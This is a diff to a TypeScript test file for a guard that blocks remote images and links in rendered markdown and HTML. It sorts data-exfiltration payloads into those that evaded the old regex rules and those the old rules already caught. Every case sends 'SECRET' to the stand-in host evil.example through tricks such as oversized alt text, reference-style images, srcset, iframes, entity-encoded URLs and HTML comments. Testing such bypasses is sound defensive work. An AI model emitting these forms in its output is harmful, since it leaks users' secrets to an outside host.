@@ -44,26 +44,33 @@ function assertSafe(input: string, g: Guard = guard): string {
   return whole;
 }
 
-describe('exfiltration: forms the regex rules let through (each fails on the old rules)', () => {
-  const cases: [string, string][] = [
+describe('exfiltration: regressions', () => {
+  // each of these renders a remote image or link through the old regex rules (checked against main)
+  const failedOnMain: [string, string][] = [
     ['alt text over 500 characters', `Look: ![${'x'.repeat(600)}](https://evil.example/p?d=SECRET) there`],
     ['URL over 1,000 characters', `![chart](https://evil.example/c?d=${'A'.repeat(1500)})`],
     ['nested brackets in the alt text', '![a [nested] label](https://evil.example/n?d=SECRET)'],
-    ['reference-style image, definition after use', 'Logo: ![logo][brand]\n\n[brand]: https://evil.example/l.png?d=SECRET'],
-    ['reference-style image, definition before use, other case', '[Brand]: https://evil.example/l.png?d=SECRET\n\n![logo][BRAND]'],
-    ['collapsed and shortcut reference images', '![brand][] and ![brand]\n\n[brand]: <https://evil.example/x?d=SECRET> "t"'],
+    ['reference-style image, definition inside a block quote after use', 'Logo: ![logo][brand]\n\n> [brand]: https://evil.example/l.png?d=SECRET'],
+    ['reference-style image, definition with its destination on the next line', '![logo][brand]\n\n[brand]:\n  https://evil.example/l.png?d=SECRET'],
     ['bare URL (linkify)', 'Your summary is ready at https://evil.example/s?d=SECRET — open it.'],
     ['img srcset', '<img srcset="https://evil.example/a.png?d=SECRET 1x, /b.png 2x">'],
     ['iframe', '<iframe src="https://evil.example/f?d=SECRET"></iframe>'],
-    ['data: image', '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)'],
     ['entity-encoded raw HTML URL', '<img src="&#104;ttps://evil.example/e?d=SECRET">'],
     ['line break inside an image label', '![a\nb](https://evil.example/lb?d=SECRET)'],
-    ['destination on the next line', '[click](\nhttps://evil.example/next?d=SECRET)'],
-    ['image inside a list item indented as code elsewhere', '- item\n\n    ![x](https://evil.example/i?d=SECRET)'],
-    ['HTML block with markdown inside (html off parses it)', '<div>\n![x](https://evil.example/h?d=SECRET)\n</div>'],
     ['unclosed img tag in an HTML block', '<div>\n<img src="https://evil.example/u?d=SECRET\n\nlater text'],
     ['comment hiding a tag from a per-token view', '<!-- x\n\n<b title="-->"><img src=https://evil.example/c?d=SECRET>">'],
   ];
+  // held by the old rules too; kept as coverage of the new stage
+  const heldOnMain: [string, string][] = [
+    ['reference-style image, definition after use', 'Logo: ![logo][brand]\n\n[brand]: https://evil.example/l.png?d=SECRET'],
+    ['reference-style image, definition before use, other case', '[Brand]: https://evil.example/l.png?d=SECRET\n\n![logo][BRAND]'],
+    ['collapsed and shortcut reference images', '![brand][] and ![brand]\n\n[brand]: <https://evil.example/x?d=SECRET> "t"'],
+    ['data: image', '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)'],
+    ['destination on the next line', '[click](\nhttps://evil.example/next?d=SECRET)'],
+    ['image inside a list item indented as code elsewhere', '- item\n\n    ![x](https://evil.example/i?d=SECRET)'],
+    ['HTML block with markdown inside (html off parses it)', '<div>\n![x](https://evil.example/h?d=SECRET)\n</div>'],
+  ];
+  const cases = [...failedOnMain, ...heldOnMain];
   for (const [name, input] of cases) {
     it(name, () => {
       assert.notDeepEqual(violations(input, ALLOWED), [], 'the input itself renders something remote (the test can fail)');
